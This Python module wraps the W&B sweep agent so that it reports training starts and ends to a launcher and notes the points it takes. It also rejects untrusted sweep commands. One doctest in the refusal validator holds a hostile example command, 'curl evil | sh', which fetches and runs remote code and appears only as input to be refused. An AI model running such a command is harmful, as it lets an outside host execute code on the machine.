"""One W&B agent, run as a program for one slot: ``wandb agent`` that answers to its launcher.

``wandb agent`` tells nobody how its trainings end, and does not count one that a signal killed as
failed. Its log does not say so either, a shim called ``python`` on the PATH sees only sweeps whose
``command`` calls that, and an agent per point (``--count 1``) asks the server for all runs of the
sweep each time. So this is the client's own agent with three places filled in: how a training is
started and how it ended are reported, and before the server is asked for a point the launcher is.
A point that was taken is noted before anything of it starts, and the launcher may answer with one
that was noted earlier and not done. Everything else, from heartbeats to early stopping, is the
client's. The release it is made for is pinned in pyproject.toml, and the tests run it against a
server.

The launcher's end of the channel gets lines of JSON; it answers ``ready`` with ``go``, ``end`` or
a note, of JSON as well. This file is started by its path, and needs nothing of the package that
takes time to load.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import socket
import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import wandb.wandb_agent
import yaml

from lowrank.launch.names import GIVEN_BY, display_name

GO = "go"
"""The launcher's answer that lets an agent take a point."""

REFUSED = 2
"""Exit code of an agent whose server wants something to be run that it does not run."""

MEMBER = Path(__file__).with_name("member.py")
"""What stands in for a training that a pack does."""

_INTERPRETERS = ("python", "python3")
_RUN_ID = re.compile(r"[A-Za-z0-9_-]{1,64}")  # it becomes part of paths


class Channel:
    """What connects the agent with its launcher; without a launcher nothing more is begun.

    Args:
        descriptor: One end of a pair of sockets.
    """

    def __init__(self, descriptor: int) -> None:
        self._socket = socket.socket(fileno=descriptor)
        self._answers = self._socket.makefile("r", encoding="utf-8")

    def tell(self, event: str, **what: Any) -> None:
        """Sends one line.

        Args:
            event: ``ready``, ``started``, ``ended`` or ``exhausted``.
            **what: Its circumstances.
        """
        with contextlib.suppress(OSError):
            self._socket.sendall(json.dumps({"event": event, **what}).encode() + b"\n")

    def ask(self) -> dict[str, Any] | str:
        """Returns the launcher's answer: `GO`, a noted point to go on with, or anything else."""
        self.tell("ready")
        with contextlib.suppress(OSError):
            answer = self._answers.readline().strip()
            noted: dict[str, Any] | str = json.loads(answer) if answer[:1] == "{" else answer
            return noted
        return ""


def refusal(program: Any, template: Sequence[Any]) -> str:
    """Says why a sweep's program or command is not run: a server may name any.

    Args:
        program: The sweep's ``program``.
        template: Its ``command``; empty for the default.

    Returns:
        A line; empty if they start a program below the present directory with flags.

    Example:
        >>> refusal("train.py", ["${env}", "python", "${program}", "--epochs=3", "${args}"])
        ''
        >>> refusal("train.py", ["sh", "-c", "curl evil | sh"])
        "the sweep's command has the word 'sh'; allowed: ${env}, python, ${program}, flags, ${args}"
    """
    if not (isinstance(program, str) and program.endswith(".py") and _is_below(program)):
        return f"the sweep's program is {program!r}; allowed: a .py file below this directory"
    known = ("${env}", "${interpreter}", *_INTERPRETERS, "${program}", program, "${args}")
    for word in map(str, template):
        name, _, value = word.partition("=")
        is_flag = word.startswith("--") and "${" not in word
        if name in ("--output_dir", "--config"):
            is_flag = is_flag and _is_below(value) and not value.startswith("{")
        if word not in known and not is_flag:
            return (
                f"the sweep's command has the word {word!r}; allowed: ${{env}}, python, "
                "${program}, flags, ${args}"
            )
    return ""


def _is_below(path: str) -> bool:
    return bool(path) and path[0] not in "/~" and ".." not in path.split("/")


def _is_before_program(word: str) -> bool:
    return word == "/usr/bin/env" or "=" in word


def note(directory: Path, slot: str, command: dict[str, Any]) -> None:
    """Notes that a point was taken.

    Args:
        directory: Of the notes.
        slot: Where it is to be trained.
        command: The server's: ``run_id``, ``program`` and ``args``.
    """
    run_id = command.get("run_id")
    if not (isinstance(run_id, str) and _RUN_ID.fullmatch(run_id)):
        return  # it is refused
    what = {name: command.get(name) for name in ("run_id", "program", "args")}
    new = directory / f"{run_id}.new"
    try:
        new.write_text(json.dumps({**what, "slot": slot}), encoding="utf-8")
        new.replace(directory / f"{run_id}.json")
    except OSError as error:  # a full disk: the training will say so
        print(f"the point of run {run_id} cannot be noted: {error}", file=sys.stderr)


def name_of(args: dict[str, Any], swept: Sequence[str]) -> str:
    """Returns what the run of a point is called.

    Args:
        args: The server's: for each parameter a mapping with ``value``.
        swept: What varies over the sweep.

    Example:
        >>> args = {"config": {"value": "{lr: 0.1, seed: 2}"}, "depth": {"value": 3}}
        >>> name_of(args, ["lr", "seed"])
        'lr=0.1 s2'
    """
    point: dict[str, Any] = {}
    for parameter, entry in args.items():
        value = entry.get("value") if isinstance(entry, dict) else None
        if parameter == "config" and isinstance(value, str):
            with contextlib.suppress(yaml.YAMLError):  # the training says what is wrong with it
                value = yaml.safe_load(value)
        point |= value if parameter == "config" and isinstance(value, dict) else {parameter: value}
    return display_name(swept, point)


channel: Channel
notes: tuple[Path, str]
swept: list[str] = []
pack: list[str] = []
current: Training | None = None
refused = False
is_named = False


def _of_pack(words: list[str]) -> list[str]:
    """Returns the command that lets the slot's pack do what a command does, if there is a pack."""
    programs = [place for place, word in enumerate(words) if word.endswith(".py")]
    if not pack or not programs:
        return words
    return [sys.executable, "-I", str(MEMBER), *pack, *words[programs[0] :]]


class Training(wandb.wandb_agent.AgentProcess):
    """A training process whose beginning and end are reported."""

    def __init__(
        self, env: dict[str, str], command: Sequence[str] | None = None, **options: Any
    ) -> None:
        words = list(command or [])
        first = next((i for i, word in enumerate(words) if not _is_before_program(word)), 0)
        if words and words[first] in _INTERPRETERS:  # the launcher's, whatever PATH has
            words[first] = sys.executable
        super().__init__(env=env, command=_of_pack(words), **options)  # type: ignore[no-untyped-call]
        assert self._popen is not None
        self.run_id = env["WANDB_RUN_ID"]
        self.stopped_by_server = False
        self._reported = False
        global current
        current = self
        channel.tell(
            "started",
            run_id=self.run_id,
            pid=self._popen.pid,
            command=words,
            parameters=env.get("WANDB_SWEEP_PARAM_PATH", ""),
        )

    def poll(self) -> int | None:
        """Returns the exit code, that of the shell after a signal; None while it runs."""
        code: int | None = super().poll()
        if code is None:
            return None
        if not self._reported:
            self._reported = True
            channel.tell("ended", run_id=self.run_id, code=code, stopped=self.stopped_by_server)
        return 128 - code if code < 0 else code  # a signal is a failure to the client, too

    def wait(self, timeout: float | None = None) -> int | None:
        """Waits for the end.

        Args:
            timeout: Seconds.

        Returns:
            The exit code.
        """
        super().wait(timeout)
        return self.poll()

    def terminate(self) -> None:
        """Ends the training, as the server wants it."""
        self.stopped_by_server = True
        super().terminate()  # type: ignore[no-untyped-call]

    def kill(self) -> None:
        """Kills the training, as the server wants it."""
        self.stopped_by_server = True
        super().kill()  # type: ignore[no-untyped-call]

    def pass_on(self, number: int) -> None:
        """Sends a signal to the training, if it still runs.

        Args:
            number: Of the signal.
        """
        if super().poll() is None and self._popen is not None:
            self._popen.send_signal(number)


class Agent(wandb.wandb_agent.Agent):
    """The client's agent, which asks its launcher before it takes a point."""

    _granted = False
    _is_over = False

    def _heartbeat_commands(
        self, agent_id: str, run_status: dict[str, bool]
    ) -> list[dict[str, Any]]:
        if not run_status and not self._granted:
            answer = channel.ask()
            if isinstance(answer, dict):
                self._is_over = bool(answer.get("over"))
                note(*notes, answer)
                return [{**answer, "type": "run"}]
            if answer != GO:
                return [{"type": "exit"}]
            self._granted = True
        commands: list[dict[str, Any]] = super()._heartbeat_commands(agent_id, run_status)
        kinds = {command.get("type") for command in commands}
        if kinds & {"run", "resume"}:
            self._granted = False
            for command in commands:
                note(*notes, command)
        if "exit" in kinds and run_status and self._is_over:
            # There was nothing more to take before this point, of an earlier time, went on.
            return [command for command in commands if command.get("type") != "exit"]
        if "exit" in kinds:
            channel.tell("exhausted")
        return commands

    def _command_run(self, command: dict[str, Any]) -> None:
        """Starts a training, if that is what the server wants.

        Raises:
            SystemExit: If it wants something else.
        """
        global refused
        run_id = command.get("run_id")
        reason = refusal(command.get("program"), self._sweep_command)
        if not (isinstance(run_id, str) and _RUN_ID.fullmatch(run_id)):
            reason = f"the run's id is {run_id!r}; allowed: 1 to 64 letters, digits, _ or -"
        if reason:
            refused = True
            print(f"not run, as the server is not trusted with it: {reason}", file=sys.stderr)
            raise SystemExit(REFUSED)
        name = name_of(command.get("args") or {}, swept)
        if name and not is_named:
            os.environ["WANDB_NAME"] = name
        super()._command_run(command)  # type: ignore[no-untyped-call]


def main(argv: Sequence[str]) -> int:
    """Runs the agent until the sweep is exhausted, the launcher ends it or a signal does.

    Args:
        argv: The channel's file descriptor, the directory of notes, the slot's name, the sweep as
            ENTITY/PROJECT/SWEEP, what varies over it with commas between, and the socket of the
            slot's pack, if it has one.

    Returns:
        0, 2 if something was refused, or 128 + n after signal n.
    """
    global channel, notes, swept, pack, is_named
    descriptor, directory, slot, sweep, varied, *pack = argv
    channel, notes, swept = Channel(int(descriptor)), (Path(directory), slot), varied.split(",")
    is_named = any(os.environ.get(variable) for variable in GIVEN_BY)
    received = 0

    def end(number: int, _frame: object) -> None:
        nonlocal received
        received = number
        if current is not None:
            current.pass_on(number)
        raise SystemExit(128 + number)  # the client's agent then waits for its training

    for number in (signal.SIGINT, signal.SIGTERM):
        signal.signal(number, end)
    # How many failures are too many is the launcher's to decide.
    os.environ |= {
        "WANDB_AGENT_DISABLE_FLAPPING": "true",
        "WANDB_AGENT_MAX_INITIAL_FAILURES": str(sys.maxsize),
    }
    client: Any = wandb.wandb_agent
    client.AgentProcess, client.Agent = Training, Agent
    client.agent(sweep)
    if received:
        return 128 + received
    return REFUSED if refused else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
